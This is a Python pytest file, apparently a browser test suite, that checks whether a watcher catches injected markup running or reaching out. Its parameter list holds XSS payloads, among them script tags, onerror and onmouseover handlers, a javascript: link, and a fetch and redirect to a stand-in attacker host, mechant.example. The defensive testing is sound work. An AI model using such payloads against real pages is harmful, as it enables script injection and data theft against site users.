"""The test of the tests: a page that runs a text, or lets it make anything, does not pass."""

from __future__ import annotations

from html import escape
from typing import TYPE_CHECKING

import pytest

from tests.browser.trapping import TEXTS
from tests.browser.watching import Watch

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, Page


@pytest.fixture
def fooled(browser: Browser) -> Iterator[Page]:
    """Return a page of its own, where nothing is reached: what it asks is refused."""
    context = browser.new_context(bypass_csp=True)
    context.route("**/*", lambda route: route.fulfill(body="<p>ici", content_type="text/html"))
    yield context.new_page()
    context.close()


@pytest.mark.parametrize(
    ("markup", "seen"),
    [
        pytest.param("<script>window.PIEGE=1</script>", "PIEGE executed", id="script"),
        pytest.param("<script>alert('vu')</script>", "dialogue vu", id="alert"),
        pytest.param("<img src=data:x onerror=window.PIEGE=1>", "PIEGE executed", id="onerror"),
        pytest.param("<iframe srcdoc='<script>parent.PIEGE=1</script>'></iframe>", "PIEGE executed", id="frame"),
        pytest.param("<script>PIEGE=1;document.documentElement.innerHTML=''</script>", "PIEGE executed", id="gone"),
        pytest.param("<img src=https://mechant.example/p.png>", "asked https://mechant.example/p.png", id="image"),
        pytest.param("<script>fetch('//mechant.example/?vol')</script>", "asked http://mechant.example", id="leak"),
        pytest.param("<meta http-equiv=refresh content='0;url=//mechant.example'>", "went to", id="leave"),
        pytest.param("<script>open('/x')</script>", "opened", id="other page"),
        pytest.param("<a href='javascript:PIEGE=1'>x</a>", '<a href="javascript', id="link that waits for a click"),
        pytest.param("<p onmouseover='window.PIEGE=1'>x</p>", "<p onmouseover", id="element that waits for a mouse"),
    ],
)
def test_what_is_run_is_seen(fooled: Page, markup: str, seen: str) -> None:
    """At once, in a frame, after which the page is emptied; or ready, and waiting for somebody."""
    watch = Watch(fooled)
    fooled.route("http://127.0.0.1/", lambda route: route.fulfill(body=f"<p>x{markup}", content_type="text/html"))
    fooled.goto("http://127.0.0.1/", wait_until="load")
    with pytest.raises(AssertionError, match=seen.replace("?", ".")):
        watch.check(300)


def test_a_page_that_repeats_the_texts_is_seen(fooled: Page) -> None:
    """Written as they came, most of them are caught as the markup of a page; escaped, none makes an element."""
    watch = Watch(fooled)
    caught = 0
    for text in TEXTS[::4]:
        fooled.set_content(f"<title>x</title><main>{text}</main>")
        try:
            watch.check()
        except AssertionError:
            caught += 1
    assert caught > len(TEXTS[::4]) * 2 / 3
    watch.caught.clear()
    fooled.goto("http://127.0.0.1/")
    fooled.set_content(f"<main>{escape(' '.join(TEXTS))}</main>")
    watch.check_shows(TEXTS)
    assert fooled.evaluate("document.querySelectorAll('main *').length") == 0


def test_a_text_that_is_lost_on_its_way_is_seen(fooled: Page) -> None:
    """A page that shows nothing of the corpus proves nothing."""
    watch = Watch(fooled)
    fooled.set_content(f"<main>{''.join(f'<p>{escape(text)}</p>' for text in TEXTS[1:])}</main>")
    watch.check_shows(TEXTS[1:])
    with pytest.raises(AssertionError, match="Ardits"):
        watch.check_shows(TEXTS)
